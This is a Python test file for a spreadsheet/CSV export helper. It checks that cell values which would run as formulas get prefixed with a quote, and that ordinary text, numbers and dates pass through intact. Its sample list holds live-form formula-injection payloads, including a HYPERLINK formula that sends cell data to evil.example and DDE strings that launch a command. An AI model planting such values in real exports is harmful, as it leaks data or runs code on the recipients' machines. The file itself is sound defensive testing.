"""A file for a spreadsheet opens as it reads: nothing in it runs."""

import csv
import io
from datetime import UTC, datetime

import pytest

from accounts.spreadsheets import cell, csv_lines

RUNS = [
    '=HYPERLINK("http://evil.example?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "|calc",
]


@pytest.mark.parametrize("text", RUNS)
def test_what_would_run_is_kept_as_words(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Glass = danger", "a+b", "", "4 stars", "🙂 =", "'quoted"])
def test_other_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_numbers_times_and_nothing_are_what_they_are() -> None:
    assert [cell(-3), cell(0.5), cell(None), cell(True)] == ["-3", "0.5", "", "True"]
    assert cell(datetime(2026, 3, 1, 14, 30, tzinfo=UTC)) == "2026-03-01T14:30:00+00:00"
    assert cell("a\x00b\ud800c") == "abc"


def test_quotes_commas_and_line_breaks_come_back_whole() -> None:
    rows = [['say "no", please', "line\nbreak"], ["=1", "x"]]
    text = "".join(csv_lines(["one", "two"], rows))
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["one", "two"], rows[0], ["'=1", "x"]]
